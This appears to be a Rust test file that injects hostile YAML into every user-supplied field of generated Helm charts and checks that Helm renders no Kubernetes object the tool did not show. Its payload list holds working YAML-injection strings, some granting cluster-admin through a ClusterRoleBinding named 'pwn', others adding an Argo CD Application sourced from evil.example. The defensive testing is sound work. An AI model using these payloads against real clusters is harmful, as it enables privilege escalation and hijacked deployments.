//! Hostile text against a real Helm (docs/security.md, "What reaches a
//! template"): every place where a project or values file puts user text into
//! a chart template gets every hostile payload, as a value and, where the
//! place is a map, as a key. Helm then renders the user's OWN files with the
//! studio's exported charts, as Argo CD would (the root chart with the
//! project file, then each Application it emits with its values file and its
//! parameters through `--set`), and every object Helm emits must be one the
//! studio's snapshot holds: no payload may make the cluster get an object the
//! studio never showed. A name the studio cannot use as a path must come with
//! an error in the problems list.
//!
//! Run with `cargo test -p xgen-core --features helm-parity --test
//! helm_hostile`; helm is found as in `helm_parity.rs`.

mod common;

use serde::Deserialize;
use serde_yaml::{Mapping, Value};
use std::collections::BTreeSet;
use std::path::Path;
use std::process::Command;
use xgen_core::checks::has_errors;
use xgen_core::rendered::render;
use xgen_core::{import, InputFile, ProjectState};

use crate::common::helm;

/// `helm template` with `args`: its objects, or None when Helm refuses (the
/// render fails, so Argo CD applies nothing) or prints what no YAML reader
/// takes (Argo CD would refuse it too).
fn helm_objects(args: &[String]) -> Option<Vec<Value>> {
    let out = Command::new(helm())
        .arg("template")
        .args(args)
        .output()
        .unwrap_or_else(|e| panic!("cannot run helm ({e}): install it with scripts/install-helm.py or set HELM"));
    if !out.status.success() {
        return None;
    }
    let text = String::from_utf8(out.stdout).ok()?;
    let mut objects = Vec::new();
    for doc in serde_yaml::Deserializer::from_str(&text) {
        let v = Value::deserialize(doc).ok()?;
        if !v.is_null() {
            objects.push(v);
        }
    }
    Some(objects)
}

/// An object as (kind, name): what a reviewer would have to have seen.
fn identity(v: &Value) -> (String, String) {
    let text = |v: &Value| v.as_str().map_or_else(|| serde_yaml::to_string(v).unwrap_or_default(), str::to_owned);
    (text(&v["kind"]), text(&v["metadata"]["name"]))
}

/// Payloads: five that would add a whole object if printed as they are (a
/// binding to cluster-admin, and the issue's Application pointing at another
/// repository; each once plain and once ending in a block scalar that
/// swallows the rest of the template's document, so that the YAML stays
/// valid whatever follows; and one that starts as a map entry, for a key
/// printed among others), then text that breaks YAML in other ways.
const PAYLOADS: &[&str] = &[
    "x\n---\napiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata:\n  name: pwn\nroleRef:\n  kind: ClusterRole\n  name: cluster-admin\n  apiGroup: rbac.authorization.k8s.io\nzz: |1\n ",
    "x\n---\napiVersion: argoproj.io/v1alpha1\nkind: Application\nmetadata:\n  name: evil\n  namespace: argocd\nspec:\n  source:\n    repoURL: https://evil.example/x.git\nzz: |1\n ",
    "x\n---\napiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata:\n  name: pwn\nroleRef:\n  kind: ClusterRole\n  name: cluster-admin\n  apiGroup: rbac.authorization.k8s.io",
    "x: y\n---\napiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata:\n  name: pwn\nzz: |1\n ",
    "x\n---\napiVersion: argoproj.io/v1alpha1\nkind: Application\nmetadata:\n  name: evil\n  namespace: argocd\nspec:\n  source:\n    repoURL: https://evil.example/x.git",
    "x\"\n---\nkind: Secret\nmetadata:\n  name: \"s",
    "a: b\nkind: Secret",
    "- x\n- y",
    "[x, {kind: Secret}]",
    "x # y",
    "{{ .Release.Name }}",
    "\\\" \\n ' ` $x",
    "C:\\data\\x,a=b.c[0]",
    "\u{202E}lmay.exe",
    "null",
    "|\n  block",
    "---",
    "*alias &anchor !tag %x @x",
    "  leading and trailing  ",
];

/// The files of one case, as the user wrote them: the project file and two
/// values files (the ingress service and a custom service).
#[derive(Clone)]
struct Files {
    project: Value,
    frontend: Value,
    backend: Value,
}

fn y(text: &str) -> Value {
    serde_yaml::from_str(text).unwrap()
}

fn base() -> Files {
    Files {
        project: y(r#"
project: {name: p, description: d, namespace: p}
source: {repoURL: "https://git.example.com/p.git", targetRevision: main, chartPath: k3s/helm-chart}
destinations:
  dev: {server: "https://k.example.com", domain: p.example.com}
site: s
registryHost: registry.example.com
infra:
  postgres: {host: pg}
  minio: {endpoint: "http://minio:9000"}
vars: {VAR: v}
environments:
  dev:
    services:
      - {name: xgen-frontend, hasDomain: true, resources: {requests: {memory: 256Mi}}}
      - {name: svc-b, valuesFile: svc-b.yaml, namespace: p-b}
extraApps:
  - {name: extra, path: k3s/extra, namespace: extra, server: "https://k.example.com"}
"#),
        frontend: y(r#"
serviceName: xgen-frontend
port: 3000
ingress:
  enabled: true
  hosts: [h.example.com]
  tls: {credentialName: cert}
  frontendRoutes: [/stream]
  routes:
    - {prefix: /api/, service: svc-b, port: 8000}
    - {regex: "/re/[0-9]+", service: svc-b, port: 8000}
"#),
        backend: y(r#"
serviceName: svc-b
image: {repository: registry.example.com/b, tag: v1, pullPolicy: Always}
healthCheck: {type: http, path: /health}
config: {KEY: v}
environments:
  dev:
    config: {DEV_KEY: v}
istio:
  apiVersion: networking.istio.io/v1beta1
  destinationRule:
    enabled: true
    trafficPolicy: {loadBalancer: {simple: ROUND_ROBIN}}
nodeSelector: {pool: default}
command: [run]
probes:
  liveness: {periodSeconds: 10}
affinity: {nodeAffinity: {}}
"#),
    }
}

fn node<'a>(v: &'a mut Value, path: &[&str]) -> &'a mut Value {
    path.iter().fold(v, |node, key| match key.parse::<usize>() {
        Ok(i) => &mut node.as_sequence_mut().expect("a list")[i],
        Err(_) => node.as_mapping_mut().expect("a map").entry(Value::from(*key)).or_insert(Value::Null),
    })
}

/// Sets the text at `path` (a value) or, with `key`, adds it as a key of the
/// map at `path`.
fn put(v: &mut Value, path: &[&str], text: &str, key: bool) {
    let target = node(v, path);
    if key {
        target.as_mapping_mut().expect("a map").insert(Value::from(text), Value::from("v"));
    } else {
        *target = Value::from(text);
    }
}

#[derive(Clone, Copy)]
enum File {
    Project,
    Frontend,
    Backend,
}

/// Every place user text reaches a template: (file, path, as a key).
const PLACES: &[(File, &[&str], bool)] = &[
    (File::Project, &["project", "name"], false),
    (File::Project, &["project", "description"], false),
    (File::Project, &["project", "namespace"], false),
    (File::Project, &["source", "repoURL"], false),
    (File::Project, &["source", "targetRevision"], false),
    (File::Project, &["destinations", "dev", "server"], false),
    (File::Project, &["destinations", "dev", "domain"], false),
    (File::Project, &["site"], false),
    (File::Project, &["registryHost"], false),
    (File::Project, &["infra", "postgres", "host"], false),
    (File::Project, &["infra", "minio", "endpoint"], false),
    (File::Project, &["infra"], true),
    (File::Project, &["infra", "postgres"], true),
    (File::Project, &["vars", "VAR"], false),
    (File::Project, &["vars"], true),
    (File::Project, &["environments", "dev", "services", "0", "resources", "requests", "memory"], false),
    (File::Project, &["environments", "dev", "services", "1", "name"], false),
    (File::Project, &["environments", "dev", "services", "1", "namespace"], false),
    (File::Project, &["extraApps", "0", "name"], false),
    (File::Project, &["extraApps", "0", "path"], false),
    (File::Project, &["extraApps", "0", "namespace"], false),
    (File::Project, &["extraApps", "0", "server"], false),
    (File::Backend, &["serviceName"], false),
    (File::Backend, &["image", "repository"], false),
    (File::Backend, &["image", "tag"], false),
    (File::Backend, &["image", "pullPolicy"], false),
    (File::Backend, &["healthCheck", "type"], false),
    (File::Backend, &["healthCheck", "path"], false),
    (File::Backend, &["config", "KEY"], false),
    (File::Backend, &["config"], true),
    (File::Backend, &["environments", "dev", "config"], true),
    (File::Backend, &["istio", "apiVersion"], false),
    (File::Backend, &["istio", "destinationRule", "trafficPolicy", "loadBalancer", "simple"], false),
    (File::Backend, &["nodeSelector"], true),
    (File::Backend, &["nodeSelector", "pool"], false),
    (File::Backend, &["command", "0"], false),
    (File::Backend, &["probes", "liveness"], true),
    (File::Backend, &["affinity", "nodeAffinity"], true),
    (File::Frontend, &["ingress", "hosts", "0"], false),
    (File::Frontend, &["ingress", "tls", "credentialName"], false),
    (File::Frontend, &["ingress", "frontendRoutes", "0"], false),
    (File::Frontend, &["ingress", "routes", "0", "prefix"], false),
    (File::Frontend, &["ingress", "routes", "0", "service"], false),
    (File::Frontend, &["ingress", "routes", "1", "regex"], false),
];

struct Case {
    label: String,
    files: Files,
}

/// Each place with the five object-adding payloads, and with the other
/// payloads in turn, three per place, so every payload lands in many places.
fn cases() -> Vec<Case> {
    const ADDING: usize = 5;
    let mut out = Vec::new();
    let mut next = ADDING;
    for (i, &(file, path, key)) in PLACES.iter().enumerate() {
        let mut chosen: Vec<usize> = (0..ADDING).collect();
        for _ in 0..3 {
            chosen.push(next);
            next = if next + 1 == PAYLOADS.len() { ADDING } else { next + 1 };
        }
        for p in chosen {
            let mut files = base();
            let target = match file {
                File::Project => &mut files.project,
                File::Frontend => &mut files.frontend,
                File::Backend => &mut files.backend,
            };
            put(target, path, PAYLOADS[p], key);
            let what = if key { "key of" } else { "value at" };
            out.push(Case { label: format!("place {i} ({what} {}), payload {p}", path.join(".")), files });
        }
    }
    out
}

fn text(v: &Value) -> String {
    serde_yaml::to_string(v).unwrap()
}

/// The user's files in a folder of their own, named as the repository names them.
fn write_user_files(dir: &Path, files: &Files) -> Vec<InputFile> {
    let user = [("p.yaml", &files.project), ("xgen-frontend.yaml", &files.frontend), ("svc-b.yaml", &files.backend)];
    user.iter()
        .map(|(name, v)| {
            let t = text(v);
            std::fs::write(dir.join(name), &t).unwrap();
            InputFile::new(*name, t.into_bytes())
        })
        .collect()
}

use crate::common::argo_set;

/// What Helm emits for env `dev` as Argo CD runs it: the root chart, then
/// each Application's service chart. The user's own files are used where the
/// user wrote one; the chart's `values.yaml` and the charts are the bundle's.
fn helm_side(bundle: &Path, user: &Path) -> Vec<(String, String)> {
    let root_args: Vec<String> = vec![
        "root".into(),
        bundle.join("k3s/argocd").display().to_string(),
        "-f".into(),
        user.join("p.yaml").display().to_string(),
        "--set".into(),
        "env=dev".into(),
    ];
    let Some(root) = helm_objects(&root_args) else { return Vec::new() };
    let mut out: Vec<(String, String)> = root.iter().map(identity).collect();
    for app in root.iter().filter(|o| o["kind"] == "Application") {
        let source = &app["spec"]["source"];
        let Some(helm) = source["helm"].as_mapping() else { continue };
        // Argo CD renders the chart at the source path; only ours is here.
        if source["path"].as_str() != Some("k3s/helm-chart") {
            continue;
        }
        let chart = bundle.join("k3s/helm-chart");
        let mut args: Vec<String> =
            vec![app["metadata"]["name"].as_str().unwrap_or("app").into(), chart.display().to_string()];
        let mut missing_file = false;
        for f in helm.get("valueFiles").and_then(Value::as_sequence).into_iter().flatten() {
            let rel = f.as_str().unwrap_or_default();
            let own = rel.strip_prefix("values/").map(|n| user.join(n)).filter(|p| p.exists());
            let path = own.unwrap_or_else(|| chart.join(rel));
            missing_file |= !path.exists();
            args.push("-f".into());
            args.push(path.display().to_string());
        }
        if missing_file {
            continue; // Argo CD fails to render the Application.
        }
        for p in helm.get("parameters").and_then(Value::as_sequence).into_iter().flatten() {
            args.push("--set".into());
            args.push(argo_set(p["name"].as_str().unwrap_or_default(), p["value"].as_str().unwrap_or_default()));
        }
        out.extend(helm_objects(&args).into_iter().flatten().map(|o| identity(&o)));
    }
    out
}

/// Every object the studio's snapshot holds for env `dev`, named or not.
fn studio_side(state: &ProjectState) -> BTreeSet<(String, String)> {
    let rendered = render(state);
    let env = rendered.env("dev").expect("env dev");
    let mut out = BTreeSet::new();
    let mut add = |v: Value| {
        out.insert(identity(&v));
    };
    for app in &env.root.applications {
        add(serde_yaml::to_value(&**app).unwrap());
    }
    add(serde_yaml::to_value(&env.root.app_project).unwrap());
    for svc in env.services.iter() {
        let Some(o) = svc.objects() else { continue };
        add(serde_yaml::to_value(&o.config_map).unwrap());
        add(serde_yaml::to_value(&o.service).unwrap());
        add(serde_yaml::to_value(&o.deployment).unwrap());
        for v in [
            o.hpa.as_ref().map(serde_yaml::to_value),
            o.destination_rule.as_ref().map(serde_yaml::to_value),
            o.gateway.as_ref().map(serde_yaml::to_value),
            o.virtual_service.as_ref().map(serde_yaml::to_value),
        ]
        .into_iter()
        .flatten()
        {
            add(v.unwrap());
        }
    }
    out
}

/// The outcome of one case.
enum Outcome {
    /// The studio refused the files on import: the user sees why, and nothing else.
    Refused,
    /// Helm emitted this many objects, every one of them in the studio's snapshot.
    Agreed(usize),
    Failed(String),
}

fn run_case(case: &Case, work: &Path) -> Outcome {
    let user = work.join("user");
    std::fs::create_dir_all(&user).unwrap();
    let inputs = write_user_files(&user, &case.files);
    let Ok(state) = import(&ProjectState::empty(), &inputs) else { return Outcome::Refused };
    let rendered = render(&state);
    let Ok(files) = rendered.files() else { return Outcome::Refused };
    let bundle = work.join("bundle");
    for f in files {
        let path = bundle.join(&f.path);
        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
        std::fs::write(path, f.text.as_bytes()).unwrap();
    }
    let theirs = helm_side(&bundle, &user);
    let ours = studio_side(&state);
    let unseen: Vec<&(String, String)> = theirs.iter().filter(|o| !ours.contains(*o)).collect();
    if !unseen.is_empty() {
        return Outcome::Failed(format!("{}: Helm emits objects the studio does not show: {unseen:?}", case.label));
    }
    // A name the studio cannot make a path of is shown as an error.
    let names_ok = rendered.envs.iter().all(|e| e.label.is_some())
        && rendered
            .envs
            .iter()
            .flat_map(|e| e.services.iter())
            .all(|s| xgen_core::names::DnsLabel::parse(&s.name).is_ok());
    if !names_ok && !has_errors(&common::lint(&state)) {
        return Outcome::Failed(format!("{}: a name is not a path, and no error says so", case.label));
    }
    Outcome::Agreed(theirs.len())
}

#[test]
fn no_hostile_text_makes_helm_emit_an_object_the_studio_does_not_show() {
    let cases = cases();
    let root = std::env::temp_dir().join(format!("xgen-hostile-{}", std::process::id()));
    let workers = 3;
    let outcomes: Vec<Outcome> = std::thread::scope(|s| {
        let handles: Vec<_> = (0..workers)
            .map(|w| {
                let (cases, root) = (&cases, &root);
                s.spawn(move || {
                    let mut out = Vec::new();
                    for (i, case) in cases.iter().enumerate().filter(|(i, _)| i % workers == w) {
                        let work = root.join(i.to_string());
                        out.push(run_case(case, &work));
                        std::fs::remove_dir_all(&work).ok();
                    }
                    out
                })
            })
            .collect();
        handles.into_iter().flat_map(|h| h.join().unwrap()).collect()
    });
    std::fs::remove_dir_all(&root).ok();
    let refused = outcomes.iter().filter(|o| matches!(o, Outcome::Refused)).count();
    let objects: usize = outcomes.iter().map(|o| if let Outcome::Agreed(n) = o { *n } else { 0 }).sum();
    let failures: Vec<&String> =
        outcomes.iter().filter_map(|o| if let Outcome::Failed(f) = o { Some(f) } else { None }).collect();
    println!(
        "hostile text: {} cases ({} places x payloads), {refused} refused on import, {objects} Helm objects checked",
        cases.len(),
        PLACES.len()
    );
    // The payloads reach Helm: most cases import, and Helm renders objects.
    assert!(refused < cases.len() / 2, "{refused} of {} cases refused: the payloads never reach Helm", cases.len());
    assert!(objects > cases.len() * 5, "only {objects} Helm objects in {} cases", cases.len());
    assert!(
        failures.is_empty(),
        "{} of {} cases:\n{}",
        failures.len(),
        cases.len(),
        failures.iter().map(|f| f.as_str()).collect::<Vec<_>>().join("\n")
    );
}

/// The same test, on the charts as they were before the template audit (every
/// value printed as it was), must fail: the payloads are strong enough.
#[test]
fn the_payloads_break_an_unquoted_template() {
    let dir = std::env::temp_dir().join(format!("xgen-hostile-probe-{}", std::process::id()));
    std::fs::create_dir_all(dir.join("templates")).unwrap();
    std::fs::write(dir.join("Chart.yaml"), "apiVersion: v2\nname: probe\nversion: 0.1.0\n").unwrap();
    std::fs::write(
        dir.join("templates/cm.yaml"),
        "apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: {{ .Values.name }}\n",
    )
    .unwrap();
    let values = dir.join("values.yaml");
    std::fs::write(
        &values,
        text(&Value::Mapping(Mapping::from_iter([(Value::from("name"), Value::from(PAYLOADS[2]))]))),
    )
    .unwrap();
    let args = vec!["probe".to_owned(), dir.display().to_string(), "-f".into(), values.display().to_string()];
    let objects = helm_objects(&args).expect("helm renders the unquoted template");
    std::fs::remove_dir_all(&dir).ok();
    assert!(
        objects.iter().any(|o| identity(o) == ("ClusterRoleBinding".into(), "pwn".into())),
        "the payload did not add its object: {objects:?}"
    );
}
